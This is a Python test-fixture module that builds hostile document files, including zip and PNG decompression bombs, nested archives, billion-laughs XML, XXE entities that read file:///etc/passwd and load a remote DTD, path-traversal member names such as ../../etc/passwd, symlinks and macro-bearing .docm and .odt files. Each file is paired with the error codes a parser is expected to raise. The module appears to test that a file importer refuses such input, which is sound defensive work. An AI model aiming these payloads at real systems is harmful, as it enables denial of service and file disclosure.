"""Files that are made to harm who opens them: each with its name and the codes with which it may be refused.

Where the codes are None the file is whole, and what it asks for is the readers' not to do: it may be read or refused, and
nothing may come of it. `address` is one that a reader would fetch from, if it fetched.
"""

from __future__ import annotations

import os
import stat
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.drafts.exchange.packages import OFFICE, TYPES, WORD, W, body, packed, text_document, word

ZEROS = 1024 * 1024
LAUGHS = "".join(f'<!ENTITY l{n} "{"".join(f"&l{n - 1};" for _ in range(10))}">' for n in range(1, 10))
BILLION = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">{LAUGHS}]><w:document {W}><w:body>&l9;</w:body></w:document>'
SCRIPT = "http://schemas.openxmlformats.org/drawingml/2006/main"


@dataclass(frozen=True)
class Hostile:
    what: str
    name: str
    content: bytes
    codes: frozenset[str] | None


def raw(
    members: list[tuple[str, bytes, int, int, int]], *, shared: bool = False, local_name: str = ""
) -> bytes:
    """A ZIP as its writer wants it: (name, deflated bytes, size that is said, sum that is said, attributes) each.

    `shared`: every member's bytes are those of the first.
    """
    out, directory, first = b"", b"", 0
    for place, (name, deflated, size, crc, attributes) in enumerate(members):
        called = name.encode()
        said = (20, 0, 8, 0, 0x21, crc, len(deflated), size, len(called), 0)
        at = first if shared and place else len(out)
        if not (shared and place):
            before = (local_name or name).encode()
            out += b"PK\x03\x04" + struct.pack("<5H3L2H", *said[:-2], len(before), 0) + before + deflated
        directory += b"PK\x01\x02" + struct.pack("<6H3L5H2L", 0x314, *said, 0, 0, 0, attributes, at) + called
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(out), 0
    )
    return out + directory + end


def deflated(content: bytes) -> bytes:
    made = zlib.compressobj(9, zlib.DEFLATED, -15)
    return made.compress(content) + made.flush()


def much(size: int) -> bytes:
    """A deflated stream of that many zeros, without making them: one megabyte, flushed, again and again."""
    made = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = made.compress(bytes(ZEROS)) + made.flush(zlib.Z_FULL_FLUSH)
    return one * (size // ZEROS) + b"\x03\x00"


def with_parts(part: tuple[str, bytes, int, int, int]) -> bytes:
    """A Word document as far as its other members go, and that one."""
    others = {"[Content_Types].xml": TYPES.format(WORD, ""), "word/document.xml": body("Bonjour.")}
    plain = [
        (name, deflated(said.encode()), len(said.encode()), zlib.crc32(said.encode()), 0)
        for name, said in others.items()
    ]
    return raw([*plain, part])


def nested() -> bytes:
    """A bomb in a package in a package: harmless to who opens one package only."""
    inner = packed({"zeros.bin": bytes(20 * ZEROS)})
    for _level in range(4):
        inner = packed({f"lib{place}.zip": inner for place in range(8)})
    return word(more={"word/embeddings/a.zip": inner})


def png_bomb() -> bytes:
    """A PNG of 60,000 × 60,000 points in some kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    lines = zlib.compress(bytes(4 * ZEROS))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def linked(address: str, kind: str = "image") -> bytes:
    """A picture that stands elsewhere, and a template that is loaded from there."""
    drawing = (
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{SCRIPT}" xmlns:r="{OFFICE}" r:link="rId9" r:embed="rId9"/>'
        "</w:drawing></w:r></w:p>"
    )
    relation = (
        f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{address}/a.png" TargetMode="External"/>'
    )
    return word(body("Avant.", raw=drawing), relations=relation)


def table(spans: str) -> str:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{spans}"/><w:vMerge/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>'
    return body(raw=f"<w:tbl><w:tr>{cell * 20}</w:tr></w:tbl>" * 50)


def same_name() -> bytes:
    said = body("Un.").encode()
    return raw([("word/document.xml", deflated(said), len(said), zlib.crc32(said), 0)] * 2)


def hostile(address: str) -> Iterator[Hostile]:
    """Every kind, one after the other: some of them are large."""

    def one(what: str, content: bytes, *codes: str, name: str = "fiche.docx") -> Hostile:
        return Hostile(what, name, content, frozenset(codes) or None)

    good, zeros = word(), deflated(bytes(ZEROS))
    yield from _bombs(one, zeros)
    for name in ("../../etc/passwd", "/etc/passwd", "word\\..\\a.xml", "C:/a.xml", "a\nb.xml", "a" * 300):
        yield one(
            f"a member called {name[:20]!r}",
            with_parts((name, zeros, ZEROS, zlib.crc32(bytes(ZEROS)), 0)),
            "names",
        )
    link = (stat.S_IFLNK | 0o777) << 16
    yield one(
        "a symbolic link", with_parts(("word/lien", deflated(b"/etc"), 4, zlib.crc32(b"/etc"), link)), "names"
    )
    yield one(
        "a NUL in a name", with_parts(("word/a\x00.xml", deflated(b"x"), 1, zlib.crc32(b"x"), 0)), "names"
    )
    yield one("two members of one name", same_name(), "names", "two_things")
    yield one(
        "another name before the bytes", raw([("a.xml", zeros, ZEROS, 0, 0)], local_name="b.xml"), "broken"
    )
    yield from _markup(one, address)
    yield one("a remote picture", linked(address))
    yield one("a remote template", linked(address, "attachedTemplate"))
    yield one("a page with remote pictures", _page(address), name="page.html")
    yield one("macros", word(more={"word/vbaProject.bin": b"x"}), "macros")
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield one("a .docm", word(main=enabled), "macros", name="fiche.docm")
    yield one("a .docm called .docx", word(main=enabled), "macros")
    yield one(
        "an .odt with Basic", text_document({"Basic/Standard/Module1.xml": "<x/>"}), "macros", name="a.odt"
    )
    yield one("an .odt with scripts", text_document({"Scripts/python/a.py": "x"}), "macros", name="a.odt")
    locked = '<m xmlns="urn:x"><encryption-data/></m>'
    yield one("a locked .odt", text_document({"META-INF/manifest.xml": locked}), "encrypted", name="a.odt")
    yield one("a sheet", text_document(kind="spreadsheet"), "not_a_text", name="a.odt")
    yield one("a PDF that is a ZIP", b"%PDF-1.7\n" + good, "pdf")
    yield one("bytes before the ZIP", b"MZ" + bytes(500) + good, "two_things", "unknown")
    yield one("words before the ZIP", b"# Titre\n" + good, "two_things", name="a.md")
    yield one("bytes after the ZIP", good + bytes(500), "two_things", "broken")
    yield one("a comment after the ZIP", good[:-2] + b"\x04\x00evil", "two_things")
    yield one("a web page called .docx", b"<!doctype html><html><p>Bonjour.", "two_things")
    yield one("a ZIP called .html", good, "two_things", name="a.html")
    yield one("a .doc", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4000), "old_office", name="a.doc")
    password = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(100) + "EncryptedPackage".encode("utf-16-le")
    yield one("a .docx with a password", password, "encrypted")
    yield one("a .rtf", b"{\\rtf1\\ansi Bonjour.}", "rtf", name="a.rtf")
    yield one("a .pages", packed({"Index/Document.iwa": b"x"}), "pages", name="a.pages")
    yield one("half a file", good[: len(good) // 2], "broken")
    flipped = bytearray(good)
    flipped[60] ^= 0xFF
    yield one("a flipped bit", bytes(flipped), "broken", "two_things", "names")
    yield one("noise", b"PK\x03\x04" + os.urandom(5000), "broken", "two_things")
    yield one("a picture of 60,000 × 60,000", word(more={"word/media/a.png": png_bomb()}))
    yield one("spans without end", word(table(str(2**31 - 1))))
    yield one("spans that are no numbers", word(table("-1e9")))
    yield one("a nest of HTML", b"<html><body>" + b"<div><table><tr><td>" * 200_000, name="a.html")
    yield one("brackets without end", b"[" * 200_000 + b"](" * 200_000, name="a.md")
    yield one("bars without end", (b"> " * 5_000 + b"x\n") * 50, name="a.md")
    yield one("a binary called .md", b"\x7fELF" + bytes(4000), "unknown", name="a.md")


def _bombs(one: Callable[..., Hostile], zeros: bytes) -> Iterator[Hostile]:
    yield one("packages in packages", nested())
    ten = 10 * 1024 * ZEROS
    yield one("10 GB, as said", with_parts(("word/media/a.bin", much(ten), 2**32 - 2, 0, 0)), "bomb")
    yield one("10 GB, said to be 1 MB", with_parts(("word/a.bin", much(ten), ZEROS - 1, 0, 0)), "bomb")
    first = zlib.crc32(bytes(1000))
    yield one("1 MB, said to be 1 kB", with_parts(("word/a.bin", zeros, 1000, first, 0)), "bomb", "broken")
    yield one(
        "1 kB, said to be 1 MB",
        with_parts(("word/a.bin", deflated(bytes(1000)), ZEROS, 0, 0)),
        "broken",
        "bomb",
    )
    shared = [(f"a{place}.xml", zeros, ZEROS, zlib.crc32(bytes(ZEROS)), 0) for place in range(90)]
    yield one("members that share their bytes", raw(shared, shared=True), "bomb")
    yield one(
        "5,000 members",
        word(more={f"word/a{place}.xml": "<x/>" for place in range(5000)}),
        "too_many_members",
    )


def _markup(one: Callable[..., Hostile], address: str) -> Iterator[Hostile]:
    yield one("a billion laughs", word(BILLION), "entities")
    outside = f'<!DOCTYPE x SYSTEM "{address}/x.dtd">'
    declared = body("x").replace("?>", f"?>{outside}", 1)
    yield one("a DTD from elsewhere", word(declared), "entities")
    yield one("the same in UTF-16", word(declared.replace("UTF-8", "UTF-16").encode("utf-16")), "entities")
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "{address}/p">%p;]>'
    yield one("a file as an entity", word(body("&e;").replace("?>", f"?>{entity}", 1)), "entities")
    yield one(
        "an entity in the relations", word(more={"word/_rels/a.rels": f"{entity}<x>&e;</x>"}), "entities"
    )
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"
    hidden = f'<Override PartName="/word/a.bin" ContentType="{kind}"/>'
    yield one(
        "an entity in a part that is called .bin",
        word(more={"word/a.bin": f"{entity}<x/>"}, types=hidden),
        "entities",
    )
    yield one(
        "an entity in an .odt",
        text_document({"content.xml": f"{entity}<x>&e;</x>"}),
        "entities",
        name="a.odt",
    )
    odd = '<?xml version="1.0" encoding="UTF-7"?><x/>'
    yield one("an encoding nobody knows", word(odd), "broken")
    yield one("10,000 levels", word(body(raw="<w:p>" * 10_000 + "</w:p>" * 10_000)), "too_deep")
    yield one("a million paragraphs", word(body(raw="<w:p/>" * 1_000_000)), "too_long", "bomb")
    yield one("paragraphs past what a draft takes", word(body(*["mot"] * 100_000)))
    yield one("XML that does not end", word(body("x")[:-20]), "broken")


def _page(address: str) -> bytes:
    return (
        f'<!doctype html><html><head><link rel="stylesheet" href="{address}/a.css"><base href="{address}"></head>'
        f'<body><p>Bonjour.</p><img src="{address}/a.png" alt="Une photo"><iframe src="{address}"></iframe>'
        f'<img src="file:///etc/passwd"><object data="{address}/o"></object></body></html>'
    ).encode()
